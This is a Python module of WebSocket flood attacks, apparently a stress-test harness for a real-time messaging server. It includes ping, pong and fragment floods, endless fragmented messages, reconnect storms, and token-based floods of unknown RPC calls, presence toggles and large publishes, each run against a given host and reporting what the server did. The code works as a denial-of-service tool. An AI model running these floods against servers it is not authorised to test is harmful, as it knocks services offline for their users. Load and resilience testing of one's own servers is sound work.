"""Attackers on sockets. Each attacks one server for some seconds, from one thread, and returns what happened to it.

They cost their own machine little, so that what a victim measures is the server: frames are masked with zeros, built
once, and sent in large pieces; nothing that comes back is decoded.
"""

from __future__ import annotations

import json
import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

MASK = bytes(4)
TEXT, PING, PONG, CLOSE = 0x81, 0x89, 0x8A, 0x88
FIRST_FRAGMENT, NEXT_FRAGMENT = 0x01, 0x00
HANDSHAKE = (
    "GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{headers}\r\n"
)
PIECE = 64 * 1024


@dataclass
class Outcome:
    """What an attack came to: sockets opened, handshakes refused (by status), bytes in both directions, and the codes
    that the server closed with (0: without a close frame)."""

    opened: int = 0
    sent: int = 0
    received: int = 0
    refused: Counter[int] = field(default_factory=Counter)
    closed: Counter[int] = field(default_factory=Counter)


def frame(opcode: int, payload: bytes = b"") -> bytes:
    """Returns one frame of a client."""
    size = len(payload)
    if size < 126:
        return struct.pack("!BB", opcode, 0x80 | size) + MASK + payload
    if size < 65536:
        return struct.pack("!BBH", opcode, 0x80 | 126, size) + MASK + payload
    return struct.pack("!BBQ", opcode, 0x80 | 127, size) + MASK + payload


def commands(*objects: dict[str, object]) -> bytes:
    """Returns one text frame that holds these commands."""
    return frame(TEXT, "\n".join(json.dumps(each, separators=(",", ":")) for each in objects).encode())


class Sender:
    """One socket that sends: first `first`, then `again` over and over. It reads and drops what comes, unless it
    `is_deaf`."""

    def __init__(self, connection: socket.socket, first: bytes, again: bytes, is_deaf: bool = False) -> None:
        self.connection, self.is_deaf = connection, is_deaf
        self._again, self._left = again, memoryview(first or again)
        self._tail = b""

    def send(self) -> int:
        """Sends as much as the kernel takes at once. Raises OSError when the connection is gone."""
        sent = self.connection.send(self._left)
        self._left = self._left[sent:] or memoryview(self._again)
        return sent

    def receive(self) -> int:
        """Reads once. Returns 0 at the end."""
        data = self.connection.recv(PIECE)
        self._tail = (self._tail + data)[-256:]
        return len(data)

    @property
    def code(self) -> int:
        """The code of the close frame at the end of what was received; 0 without one."""
        at = self._tail.rfind(bytes([CLOSE]))
        while at >= 0:
            rest = self._tail[at + 1 :]
            if len(rest) >= 3 and rest[0] == len(rest) - 1:
                return struct.unpack("!H", rest[1:3])[0]
            at = self._tail.rfind(bytes([CLOSE]), 0, at)
        return 0


def attack(
    host: str,
    port: int,
    seconds: float,
    *,
    sockets: int,
    again: bytes,
    first: bytes = b"",
    bytes_per_second: float = 0.0,
    path: str = "/connection/websocket",
    headers: str = "",
    is_deaf: bool = False,
) -> Outcome:
    """Keeps so many sockets sending for so many seconds; one that the server ends is opened again at once.

    `bytes_per_second` bounds what all of them send together; 0 is as much as the server takes.
    """
    outcome, senders = Outcome(), dict[socket.socket, Sender]()
    handshake = HANDSHAKE.format(path=path, host=f"{host}:{port}", headers=headers).encode()
    began = time.monotonic()
    with selectors.DefaultSelector() as selector:

        def drop(sender: Sender) -> None:
            outcome.closed[sender.code] += 1
            selector.unregister(sender.connection)
            del senders[sender.connection]
            sender.connection.close()

        while (elapsed := time.monotonic() - began) < seconds:
            if len(senders) < sockets:
                connection = _open(host, port, handshake, outcome)
                if connection is not None:
                    senders[connection] = Sender(connection, first, again, is_deaf)
                    selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
                elif not senders:
                    time.sleep(0.01)
            may_send = not bytes_per_second or outcome.sent < elapsed * bytes_per_second
            if not may_send:
                time.sleep(0.001)
            for key, events in selector.select(0.01):
                assert isinstance(key.fileobj, socket.socket)
                sender = senders[key.fileobj]
                try:
                    if events & selectors.EVENT_READ and not sender.is_deaf:
                        received = sender.receive()
                        outcome.received += received
                        if not received:
                            drop(sender)
                            continue
                    if events & selectors.EVENT_WRITE and may_send:
                        outcome.sent += sender.send()
                except BlockingIOError:
                    continue
                except OSError:
                    drop(sender)
        for sender in list(senders.values()):
            sender.connection.close()
    return outcome


def _open(host: str, port: int, handshake: bytes, outcome: Outcome) -> socket.socket | None:
    """Opens one WebSocket. Returns None, and counts the status, when it was refused."""
    try:
        connection = socket.create_connection((host, port), timeout=5)
    except OSError:
        outcome.refused[0] += 1
        return None
    try:
        connection.sendall(handshake)
        answer = b""
        while b"\r\n\r\n" not in answer and (data := connection.recv(4096)):
            answer += data
    except OSError:
        answer = b""
    status = int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0
    if status != 101:
        outcome.refused[status] += 1
        connection.close()
        return None
    outcome.opened += 1
    connection.setblocking(False)
    return connection


# -- before `connect` --------------------------------------------------------------------------------------------------


def pings(host: str, port: int, seconds: float, *, sockets: int = 4, **options: object) -> Outcome:
    """Sockets that never send a credential, and ping: 1.3 MB a second in all."""
    return attack(host, port, seconds, sockets=sockets, again=_many(frame(PING)), **{**RATE, **options})


def pongs(host: str, port: int, seconds: float, *, sockets: int = 4, **options: object) -> Outcome:
    """The same with pongs that no ping asked for."""
    return attack(host, port, seconds, sockets=sockets, again=_many(frame(PONG)), **{**RATE, **options})


def fragments(host: str, port: int, seconds: float, *, sockets: int = 4, **options: object) -> Outcome:
    """The same with messages in fragments of one byte, each below the bound on the fragments of a message."""
    message = frame(FIRST_FRAGMENT, b"{") + frame(NEXT_FRAGMENT, b" ") * 1000 + frame(0x80, b"}")
    return attack(host, port, seconds, sockets=sockets, again=_many(message), **{**RATE, **options})


def endless_fragments(host: str, port: int, seconds: float, *, sockets: int = 4, **options: object) -> Outcome:
    """The same with one message that never ends, in empty fragments."""
    again = _many(frame(NEXT_FRAGMENT))
    return attack(host, port, seconds, sockets=sockets, first=frame(FIRST_FRAGMENT), again=again, **{**RATE, **options})


def short_lives(host: str, port: int, seconds: float, *, sockets: int = 8, **options: object) -> Outcome:
    """Sockets that send one message which ends them, and come back at once."""
    return attack(host, port, seconds, sockets=sockets, again=frame(TEXT, b"no command"), **options)


# -- with a token ------------------------------------------------------------------------------------------------------


def unknown_calls(
    host: str, port: int, seconds: float, token: str, *, sockets: int = 10, count: int = 1000, **options: object
) -> Outcome:
    """Calls of methods that do not exist, a thousand in each message."""
    again = commands(*({"id": number, "rpc": {"method": "no.such", "data": {}}} for number in range(2, 2 + count)))
    return attack(host, port, seconds, sockets=sockets, first=connecting(token), again=again, **options)


def presence_toggles(
    host: str, port: int, seconds: float, token: str, stream: str, *, sockets: int = 10, **options: object
) -> Outcome:
    """Subscribes to a stream with presence and leaves it, over and over: each time all its subscribers are told."""
    again = _many(
        commands({"id": 2, "subscribe": {"channel": stream, "join_leave": True}})
        + commands({"id": 3, "unsubscribe": {"channel": stream}})
    )
    options = {"bytes_per_second": 20_000.0, **options}
    return attack(host, port, seconds, sockets=sockets, first=connecting(token), again=again, **options)


def presence_calls(
    host: str, port: int, seconds: float, token: str, stream: str, *, sockets: int = 10, **options: object
) -> Outcome:
    """Asks again and again which clients are subscribed to a stream."""
    first = connecting(token) + commands({"id": 2, "subscribe": {"channel": stream}})
    again = _many(commands({"id": 3, "presence": {"channel": stream}}))
    options = {"bytes_per_second": 20_000.0, **options}
    return attack(host, port, seconds, sockets=sockets, first=first, again=again, **options)


def typing(
    host: str, port: int, seconds: float, token: str, stream: str, *, sockets: int = 10, **options: object
) -> Outcome:
    """Publishes ephemeral messages of the largest size."""
    first = connecting(token) + commands({"id": 2, "subscribe": {"channel": stream}})
    again = commands({"id": 3, "publish": {"channel": stream, "data": {"type": "typing", "data": "x" * 3900}}})
    return attack(host, port, seconds, sockets=sockets, first=first, again=again, **options)


def connecting(token: str) -> bytes:
    return commands({"id": 1, "connect": {"token": token}})


RATE = {"bytes_per_second": 1_300_000.0}
UNIDENTIFIED: Iterable[Callable[..., Outcome]] = (pings, pongs, fragments, endless_fragments, short_lives)
"""`(host, port, seconds) -> Outcome`."""
WITH_TOKEN: Iterable[Callable[..., Outcome]] = (unknown_calls,)
"""`(host, port, seconds, token) -> Outcome`."""
ON_A_STREAM: Iterable[Callable[..., Outcome]] = (presence_toggles, presence_calls, typing)
"""`(host, port, seconds, token, stream) -> Outcome`."""


def _many(message: bytes) -> bytes:
    """Returns the message so often that one piece is large."""
    return message * max(1, PIECE // len(message))
